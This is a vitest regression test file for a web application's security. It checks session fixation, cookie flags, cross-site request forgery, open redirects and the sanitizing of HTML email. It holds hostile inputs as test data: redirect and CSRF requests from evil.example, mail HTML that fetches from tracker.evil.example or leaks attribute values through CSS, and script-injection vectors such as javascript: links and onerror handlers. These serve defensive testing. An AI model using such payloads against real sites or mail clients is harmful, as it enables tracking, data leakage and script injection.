import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { htmlToText, sanitizeEmailHtml } from '../../src/mail/incoming/sanitizeHtml.js';
import { createTestContext, createUser, PASSWORD, signIn, type TestContext, XHR } from '../helpers.js';

// Regression tests of attack classes that hit products like this one (issue 13, item 5): session
// fixation, cookie flags, cross-site request forgery by every shape a browser can send, and HTML mail
// that would fetch remote content (read receipts, CSS exfiltration) when shown.

let t: TestContext;
beforeAll(async () => {
  t = await createTestContext();
  await createUser(t.db, { id: 'alice', roles: [{ role: 'c:roles:admin', scope: '/' }] });
});
afterAll(() => t.close());

const form = { 'content-type': 'application/x-www-form-urlencoded' };
const credentials = `username=alice&password=${encodeURIComponent(PASSWORD)}`;

describe('sessions', () => {
  it('issues a new session id at sign-in, so a planted cookie is never promoted (fixation)', async () => {
    const planted = 'dossier_session=attacker-chosen-value-0123456789';
    const res = await t.app.inject({
      method: 'POST',
      url: '/signin',
      headers: { ...XHR, ...form, cookie: planted },
      payload: credentials,
    });
    expect(res.statusCode).toBe(200);
    const issued = res.cookies.find((c) => c.name === 'dossier_session');
    expect(issued?.value).toBeTruthy();
    expect(issued?.value).not.toBe('attacker-chosen-value-0123456789');
    expect(issued?.httpOnly).toBe(true);
    expect(issued?.sameSite).toBe('Lax');
    expect(issued?.path).toBe('/');
    // The planted value is no session.
    const withPlanted = await t.app.inject({
      method: 'GET',
      url: '/notifications/active',
      headers: { ...XHR, cookie: planted },
    });
    expect(withPlanted.statusCode).toBe(401);
  });

  it('a sign-in with an existing session replaces it: the old id stops working', async () => {
    const first = await signIn(t.app, 'alice');
    const again = await t.app.inject({
      method: 'POST',
      url: '/signin',
      headers: { ...XHR, ...form, cookie: first },
      payload: credentials,
    });
    const second = again.cookies.find((c) => c.name === 'dossier_session')?.value;
    expect(second).toBeTruthy();
    expect(`dossier_session=${second}`).not.toBe(first);
    const old = await t.app.inject({
      method: 'GET',
      url: '/notifications/active',
      headers: { ...XHR, cookie: first },
    });
    expect(old.statusCode).toBe(401);
  });

  it('marks the cookie Secure when the app is served over https', async () => {
    const secure = await createTestContext({ publicUrl: 'https://dossier.example' });
    try {
      await createUser(secure.db, { id: 'bob' });
      const res = await secure.app.inject({
        method: 'POST',
        url: '/signin',
        headers: { ...XHR, ...form },
        payload: `username=bob&password=${encodeURIComponent(PASSWORD)}`,
      });
      expect(res.cookies.find((c) => c.name === 'dossier_session')?.secure).toBe(true);
    } finally {
      await secure.close();
    }
  });
});

describe('cross-site request forgery', () => {
  it('refuses a state change without X-Requested-With, whatever the body type', async () => {
    const cookie = await signIn(t.app, 'alice');
    for (const [contentType, payload] of [
      ['application/json', '{"ids":[]}'],
      ['text/plain', '{"ids":[]}'],
      ['application/x-www-form-urlencoded', 'ids=1'],
      ['multipart/form-data; boundary=x', '--x--'],
    ] as const) {
      const res = await t.app.inject({
        method: 'POST',
        url: '/notifications/acknowledge',
        headers: { cookie, 'content-type': contentType, origin: 'https://evil.example' },
        payload,
      });
      expect(res.statusCode, contentType).toBe(403);
    }
  });

  it('refuses a cross-origin form post to sign-in or sign-out, and one with no origin at all', async () => {
    for (const headers of [
      { origin: 'https://evil.example' },
      { referer: 'https://evil.example/page' },
      {},
    ]) {
      const res = await t.app.inject({
        method: 'POST',
        url: '/signin',
        headers: { ...form, ...headers },
        payload: credentials,
      });
      expect(res.statusCode).toBe(403);
    }
    const cookie = await signIn(t.app, 'alice');
    const out = await t.app.inject({
      method: 'POST',
      url: '/signout',
      headers: { cookie, origin: 'https://evil.example' },
    });
    expect(out.statusCode).toBe(403);
    const still = await t.app.inject({
      method: 'GET',
      url: '/notifications/active',
      headers: { ...XHR, cookie },
    });
    expect(still.statusCode).toBe(200);
  });

  it('a JSON route will not read a text/plain body as JSON, even with the header', async () => {
    const cookie = await signIn(t.app, 'alice');
    const res = await t.app.inject({
      method: 'POST',
      url: '/notifications/acknowledge',
      headers: { ...XHR, cookie, 'content-type': 'text/plain' },
      payload: '{"ids":[]}',
    });
    // Fastify reads text/plain as a string, which the route's schema refuses.
    expect(res.statusCode).toBe(400);
  });
});

describe('return targets after sign-in (open redirect)', () => {
  it.each([
    ['/\t/evil.example/phish', '/'],
    ['/%09/evil.example/phish', '/%09/evil.example/phish'],
    ['/\n/evil.example', '/'],
    ['/\\evil.example', '/'],
    ['//evil.example/x', '/'],
    ['https://evil.example/', '/'],
    ['/requests/ACM1?tab=tasks#notes', '/requests/ACM1?tab=tasks#notes'],
  ])('a plain-form sign-in with return-url %j goes to %j', async (returnUrl, expected) => {
    const res = await t.app.inject({
      method: 'POST',
      url: '/signin',
      headers: { ...form, origin: 'http://localhost:80', host: 'localhost:80' },
      payload: `${credentials}&return-url=${encodeURIComponent(returnUrl)}`,
    });
    expect(res.statusCode).toBe(303);
    expect(res.headers.location).toBe(expected);
    // What the browser makes of the target stays on this origin.
    expect(new URL(String(res.headers.location), 'http://dossier.test').origin).toBe('http://dossier.test');
  });

  it('answers a signed-in visit to /signin with a newline in return-url by a redirect home, not 500', async () => {
    const cookie = await signIn(t.app, 'alice');
    const res = await t.app.inject({
      method: 'GET',
      url: '/signin?return-url=%2F%0A%2Fevil',
      headers: { cookie },
    });
    expect(res.statusCode).toBe(303);
    expect(res.headers.location).toBe('/');
  });
});

describe('the page shell', () => {
  it('puts stored text into the page as it is, even with $ patterns in it', async () => {
    const cookie = await signIn(t.app, 'alice');
    await t.db.updateTable('users').set({ name: "Al $` $' $& $$ Ice" }).where('id', '=', 'alice').execute();
    const res = await t.app.inject({ method: 'GET', url: '/', headers: { cookie, accept: 'text/html' } });
    expect(res.statusCode).toBe(200);
    const state = /<script id="initial-state" type="application\/json">(.*?)<\/script>/s.exec(res.body)?.[1];
    expect(JSON.parse(state as string).user.name).toBe("Al $` $' $& $$ Ice");
    expect(res.body.match(/<script id="initial-state"/g)).toHaveLength(1);
  });
});

describe('HTML mail shown in the inbox and the outbox', () => {
  it.each([
    ['a remote image (a read receipt)', '<p>Hi</p><img src="https://tracker.evil.example/open.gif">'],
    [
      'a background image',
      '<table background="https://tracker.evil.example/bg.png"><tr><td>Hi</td></tr></table>',
    ],
    [
      'a style attribute fetching a URL',
      '<div style="background:url(https://tracker.evil.example/?q=1)">Hi</div>',
    ],
    [
      'a style sheet importing a URL',
      '<style>@import url(https://tracker.evil.example/x.css);</style><p>Hi</p>',
    ],
    [
      'CSS that leaks attribute values',
      '<style>input[value^="a"]{background:url(https://tracker.evil.example/a)}</style><p>Hi</p>',
    ],
    ['a linked style sheet', '<link rel="stylesheet" href="https://tracker.evil.example/x.css"><p>Hi</p>'],
    ['a picture source', '<picture><source srcset="https://tracker.evil.example/p.png"></picture><p>Hi</p>'],
    ['a video poster', '<video poster="https://tracker.evil.example/v.png"></video><p>Hi</p>'],
    ['a form posting elsewhere', '<form action="https://tracker.evil.example/steal"><input name="x"></form>'],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://tracker.evil.example/"><p>Hi</p>'],
  ])('keeps the text and fetches nothing: %s', (_name, html) => {
    const clean = sanitizeEmailHtml(html);
    expect(clean).not.toContain('tracker.evil.example');
    expect(clean).not.toMatch(/<(img|style|link|source|video|form|input|meta)\b|style=|background=/i);
  });

  it('keeps a link a person may follow, and only a safe one', () => {
    expect(sanitizeEmailHtml('<a href="https://records.example/x" onclick="steal()">records</a>')).toBe(
      '<a href="https://records.example/x" rel="noopener noreferrer" target="_blank">records</a>',
    );
    const refused = sanitizeEmailHtml('<a href="javascript:steal()">records</a>');
    expect(refused).toMatch(/^<a href="about:blank"[^>]*>records<\/a>$/);
  });

  it('gives pages the text of received HTML, so no browser parses the markup', () => {
    expect(
      htmlToText(
        '<p>Records for <b>Olivia</b>&nbsp;Chen</p><script>steal()</script><img src=x onerror=steal()>' +
          '<details open ontoggle=steal()>Sent &amp; signed</details><br>Regards',
      ),
    ).toBe('Records for Olivia\u00a0Chen\nSent & signed\nRegards');
  });
});
